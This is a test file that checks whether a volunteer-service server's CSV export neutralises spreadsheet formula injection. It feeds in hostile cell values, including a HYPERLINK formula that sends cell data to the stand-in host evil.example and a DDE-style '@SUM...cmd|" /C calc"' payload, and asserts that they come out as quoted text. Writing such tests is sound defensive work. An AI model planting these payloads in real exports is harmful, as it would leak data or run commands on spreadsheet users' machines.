// Spreadsheet formula injection (issue 11 §1.5): text people typed comes
// out of every CSV the server writes as text, never as a live formula in
// Excel or WPS (OWASP's rule: a cell starting with = + - @ TAB or CR is
// quoted and prefixed with '), while numbers the server computed stay
// plain numbers. The server writes no XLSX (see src/app/service/exports.h).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer } from '../lib/server.mjs';
import { Client } from '../lib/client.mjs';
import { residentId } from '../lib/ids.mjs';

let srv, root, org;

before(async () => {
  srv = await startServer();
  root = new Client(srv.url);
  await root.login('admin', srv.adminPassword);
  const rootOrg = (await root.get('/api/v1/me')).json.org_id;
  const a = await root.post('/api/v1/organizations', { name: '寿安镇志愿服务协会', kind: 'association', parent_id: rootOrg, region_code: '510115106000' });
  assert.equal(a.status, 201, a.text);
  org = a.json;
});
after(async () => { await srv?.stop(); });

// RFC 4180 as Excel reads it: raw cells (quotes kept) and their values
function parseCsv(text) {
  const rows = [];
  let row = [], i = 0;
  while (i < text.length) {
    let raw = '', value = '';
    if (text[i] === '"') {
      let j = i + 1;
      for (;;) {
        if (text[j] === '"' && text[j + 1] === '"') { value += '"'; j += 2; } else if (text[j] === '"') { j++; break; } else value += text[j++];
      }
      raw = text.slice(i, j);
      i = j;
    } else {
      let j = i;
      while (j < text.length && text[j] !== ',' && text[j] !== '\r') j++;
      raw = value = text.slice(i, j);
      i = j;
    }
    row.push({ raw, value });
    if (text[i] === ',') i++;
    else { rows.push(row); row = []; i += 2; }   // CRLF
  }
  return rows;
}

test('archive CSV: hostile beneficiary, place, content and activity come out as text; numbers stay numbers', async () => {
  const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
  const act = await root.post('/api/v1/activities', { name: '@SUM(1+1)*cmd|" /C calc"!A0', org_id: org.id,
    starts_at: '2026-10-03T01:00:00Z', ends_at: '2026-10-03T03:00:00Z', place: '寿安镇', content: '陪伴老人' });
  assert.equal(act.status, 201, act.text);
  const v = await root.post('/api/v1/volunteers', { name: '公式甲', id_type: 'resident_id', id_number: residentId('510115', '19800808', 231),
    phone: '13700000231', region_code: '510115106001', org_id: org.id, consent: { sensitive: true, notice_version: '2026-11' } });
  assert.equal(v.status, 201, v.text);
  const r = await root.post('/api/v1/records', { activity_id: act.json.id, volunteer_id: v.json.id, minutes: 90, quality: 'pass',
    beneficiary: hyperlink, place: '+86 028 8272 2222', content: '-2+3', late_reason: '补录' });
  assert.equal(r.status, 201, r.text);
  // a leading TAB or CR cannot even be entered: text fields refuse control characters
  for (const bad of ['\t=1+2', '\r=1+2']) {
    const refused = await root.post('/api/v1/records', { activity_id: act.json.id, volunteer_id: v.json.id, minutes: 30, quality: 'pass', beneficiary: bad, late_reason: '补录' });
    assert.deepEqual([refused.status, refused.json.error.code, refused.json.error.field], [422, 'invalid_text', 'beneficiary']);
  }

  const res = await fetch(`${srv.url}/api/v1/volunteers/${v.json.id}/archive.csv?lang=en`, { headers: { Cookie: root.cookie } });
  assert.equal(res.status, 200);
  const rows = parseCsv((await res.text()).replace(/^\uFEFF/, ''));
  assert.equal(rows.length, 2, 'the header and the one record');
  const header = rows[0].map((c) => c.value);
  const cell = (name) => rows[1][header.indexOf(name)];
  // the values Excel shows: the text with a ' in front, never a formula
  assert.equal(cell('Beneficiary').value, `'${hyperlink}`);
  assert.equal(cell('Beneficiary').raw, `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点此查看"")"`);
  assert.equal(cell('Activity').value, `'@SUM(1+1)*cmd|" /C calc"!A0`);
  assert.equal(cell('Place').value, "'+86 028 8272 2222");
  assert.equal(cell('Content').value, "'-2+3");
  // numbers the server wrote are bare numbers a spreadsheet can sum
  assert.equal(cell('Record no.').raw, String(r.json.id));
  assert.equal(cell('Minutes entered').raw, '90');
  assert.equal(cell('Minutes counted').raw, '0');
  assert.equal(cell('Corrects record no.').raw, '');
  // no cell of the file starts like a formula outside quotes
  for (const row of rows) for (const c of row) assert.doesNotMatch(c.raw, /^[=+@\t\r]|^-\D/, c.raw);
});
